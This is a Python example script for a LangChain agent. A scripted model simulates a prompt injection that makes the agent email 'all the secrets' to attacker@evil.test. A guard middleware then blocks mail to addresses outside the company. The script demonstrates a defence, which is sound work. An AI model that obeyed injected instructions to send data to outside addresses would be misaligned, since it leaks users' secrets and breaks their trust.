"""A `langchain.agents.create_agent` app, then the same app guarded by one middleware.

Run: python examples/create_agent_app.py   (offline: a scripted model plays the LLM)
"""

from __future__ import annotations

import asyncio

from langchain.agents import create_agent
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver

from vfa.testing import ScriptedModel

SENT: list[str] = []


@tool
def send_email(to: str, body: str) -> str:
    """Send an email."""
    SENT.append(to)
    return f"emailed {to}"


# A prompt injection in a document makes the model try to mail the secrets out.
model = ScriptedModel([[("send_email", {"to": "team@example.com", "body": "minutes"}),
                        ("send_email", {"to": "attacker@evil.test", "body": "all the secrets"})], "done"])


def build(middleware=()):
    return create_agent(model, [send_email], middleware=list(middleware), checkpointer=InMemorySaver())


app = build()

# -- guarded: four added lines. GuardMiddleware goes last in middleware=[...] ------------------------

from graphs import GuardMiddleware  # noqa: E402  (added line 1)
from vfa import ALLOW, Deny, guard  # noqa: E402  (added line 2)

internal_only = guard(lambda p, c: ALLOW if p.args["to"].endswith("@example.com") else Deny(reason=f"{p.args['to']} is outside the company"), name="internal_only")  # (added line 3)  # noqa: E501
guarded = build(middleware=[GuardMiddleware([internal_only])])  # (added line 4)


def show(title: str, out: dict) -> None:
    print(f"--- {title}")
    for m in out["messages"][1:]:
        print(f"  {type(m).__name__:12} {m.content or m.tool_calls}")


if __name__ == "__main__":
    show("unguarded: the secrets are mailed out", app.invoke({"messages": [("user", "summarise")]},
                                                           {"configurable": {"thread_id": "1"}}))
    print("  sent to:", SENT)
    SENT.clear()
    show("guarded: the outside address is denied", guarded.invoke({"messages": [("user", "summarise")]},
                                                                 {"configurable": {"thread_id": "2"}}))
    print("  sent to:", SENT)
    out = asyncio.run(guarded.ainvoke({"messages": [("user", "summarise")]}, {"configurable": {"thread_id": "3"}}))
    print("  ainvoke:", [m.content for m in out["messages"] if m.type == "tool"])
